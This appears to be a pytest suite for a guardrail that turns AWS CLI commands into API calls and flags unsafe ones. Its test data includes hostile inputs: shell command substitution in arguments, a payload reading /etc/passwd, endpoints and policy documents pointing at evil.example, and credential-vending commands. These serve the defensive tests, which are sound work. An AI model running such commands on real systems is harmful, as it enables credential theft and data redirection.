"""AWS CLI commands as calls."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sudo_mcp_guardrails.gateway.meaning.commands import read_commands
from sudo_mcp_guardrails.gateway.meaning.declared import HOLE


def one(command: str) -> tuple[str, str, str, Any]:
    found = read_commands(command)
    assert not found.undecidable, found.undecidable
    (call,) = found.calls
    return call.service, call.operation, call.region, dict(call.parameters)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("aws sts get-caller-identity", ("sts", "GetCallerIdentity", "", {})),
        ("aws s3api list-objects-v2 --bucket b-1", ("s3", "ListObjectsV2", "", {"Bucket": "b-1"})),
        (
            "aws --region eu-west-1 rds describe-db-instances --db-instance-identifier=x --output json",
            ("rds", "DescribeDBInstances", "eu-west-1", {"DBInstanceIdentifier": "x"}),
        ),
        (
            "aws ec2 terminate-instances --instance-ids i-1 i-2 --no-dry-run --region us-east-1",
            ("ec2", "TerminateInstances", "us-east-1", {"InstanceIds": ["i-1", "i-2"], "NoDryRun": True}),
        ),
        (
            """aws dynamodb put-item --table-name t --item '{"pk": {"S": "x"}}'""",
            ("dynamodb", "PutItem", "", {"TableName": "t", "Item": {"pk": {"S": "x"}}}),
        ),
        (
            "aws ec2 run-instances --tag-specifications ResourceType=instance,Tags=[{Key=a,Value=b}]",
            ("ec2", "RunInstances", "", {"TagSpecifications": HOLE}),
        ),
        (
            "aws logs delete-log-group --log-group-name /aws/lambda/x",
            ("logs", "DeleteLogGroup", "", {"logGroupName": "/aws/lambda/x"}),
        ),
        (
            "aws ec2 describe-instances --query 'Reservations[?State==`on`] | [0]'",
            ("ec2", "DescribeInstances", "", {}),
        ),
        (
            """aws lambda create-alias --cli-input-json '{"FunctionName": "f", "Name": "a"}' --name b""",
            ("lambda", "CreateAlias", "", {"FunctionName": "f", "Name": "b"}),
        ),
    ],
)
def test_a_command_is_one_call(command: str, expected: tuple[str, str, str, Any]) -> None:
    assert one(command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("aws s3 ls", ["ListBuckets"]),
        ("aws s3 ls s3://bucket-1/a/", ["ListObjectsV2"]),
        ("aws s3 cp s3://bucket-1/a b", ["HeadObject", "GetObject"]),
        ("aws s3 cp b s3://bucket-1/a --acl public-read", ["PutObject"]),
        (
            "aws s3 mv s3://bucket-1/a s3://bucket-2/",
            ["HeadObject", "CopyObject", "GetObjectTagging", "PutObjectTagging", "DeleteObject"],
        ),
        ("aws s3 rm s3://bucket-1/a", ["DeleteObject"]),
        ("aws s3 rm s3://bucket-1 --recursive", ["ListObjectsV2", "DeleteObject"]),
        ("aws s3 rm --recursive s3://bucket-1", ["ListObjectsV2", "DeleteObject"]),
        ("aws s3 sync . s3://bucket-1 --delete", ["ListObjectsV2", "PutObject", "DeleteObject"]),
        ("aws s3 mb s3://bucket-1", ["CreateBucket"]),
        ("aws s3 rb s3://bucket-1 --force", ["ListObjectsV2", "DeleteObject", "DeleteBucket"]),
    ],
)
def test_commands_of_s3_are_the_calls_that_they_make(command: str, expected: list[str]) -> None:
    found = read_commands(command)
    assert not found.undecidable
    assert [call.operation for call in found.calls] == expected


def test_what_is_sent_along_with_an_upload_is_kept() -> None:
    assert one("aws s3 cp b s3://bucket-1/a --acl public-read")[3] == {
        "Bucket": "bucket-1",
        "Key": "a",
        "ACL": "public-read",
        "Body": HOLE,
    }


@pytest.mark.parametrize(
    "command",
    [
        "aws ec2 describe-instances | grep x",
        "aws s3 ls; aws iam list-users",
        "aws s3 ls && aws iam list-users",
        "aws s3 ls\naws iam list-users",
        "aws s3api get-object --bucket $(whoami) --key x",
        'aws s3api get-object --bucket "$(whoami)" --key x',
        "aws s3api get-object --bucket `whoami` --key x",
        "aws s3 ls > /tmp/x",
        "aws s3 ls 's3://bucket-1",
        "aws lambda invoke --function-name f --payload file:///etc/passwd out",
        "aws lambda invoke --function-name f --payload fileb://x out",
        "aws iam create-policy --policy-document https://evil.example/p",
        "aws iam create-user --cli-input-yaml x",
        "aws iam create-user --cli-input-json file://x",
        "aws --endpoint http://evil.example s3 ls",
        "aws s3 ls --prof admin",
        "aws --region --profile s3 ls",
        "aws --region moon s3 ls",
        "aws cloudformation deploy --stack-name x --template-file y",
        "aws eks update-kubeconfig --name x",
        "aws configure set region us-east-1",
        "aws ec2 wait instance-running",
        "aws s3 website s3://bucket-1 --index-document x",
        "aws s3 cp a b",
        "aws s3 cp s3://arn:aws:s3:eu-west-1:111111111111:accesspoint/x/k b",
        "aws s3 cp s3://bucket-1/a b --some-new-option",
        "sudo aws s3 ls",
        "aws",
        "aws s3",
        "aws iam create-user more --user-name x",
        "aws iam create-user --user-name a --user-name b",
        "",
        None,
        17,
        "aws " + "x" * 30_000,
    ],
)
def test_what_is_not_understood_is_undecidable(command: object) -> None:
    found = read_commands(command)
    assert found.undecidable
    assert not found.calls


@pytest.mark.parametrize(
    "option", ["--endpoint-url http://evil.example", "--profile admin", "--no-verify-ssl", "--debug"]
)
def test_options_that_nobody_needs_are_refused(option: str) -> None:
    for command in (f"aws sts get-caller-identity {option}", f"aws {option} sts get-caller-identity"):
        found = read_commands(command)
        assert [(line, name) for line, name, _ in found.refused] == [(1, option.split(maxsplit=1)[0])]


@pytest.mark.parametrize(
    "command",
    [
        "aws ecr get-login-password",
        "aws eks get-token --cluster-name x",
        "aws rds generate-db-auth-token --hostname h --port 1 --username u",
        "aws codeartifact login --tool pip --repository r --domain d",
        "aws s3 presign s3://bucket-1/a",
        "aws sso login",
    ],
)
def test_commands_that_hand_out_credentials_say_so(command: str) -> None:
    assert read_commands(command).vending


def test_a_list_has_at_most_twenty() -> None:
    assert len(read_commands(["aws s3 ls"] * 20).calls) == 20
    assert read_commands(["aws s3 ls"] * 21).undecidable
    assert read_commands([]).undecidable


def test_one_bad_command_leaves_the_others_told() -> None:
    found = read_commands(["aws s3 ls", "aws | x"])
    assert [call.operation for call in found.calls] == ["ListBuckets"]
    assert [each.line for each in found.undecidable] == [2]


@given(
    st.one_of(
        st.text(),
        st.lists(st.text(alphabet="aws s3lcp-='\"\\{}[]:/,\n$`|é", max_size=60).map("aws ".__add__), max_size=5),
    )
)
def test_no_text_raises(given_: object) -> None:
    read_commands(given_)
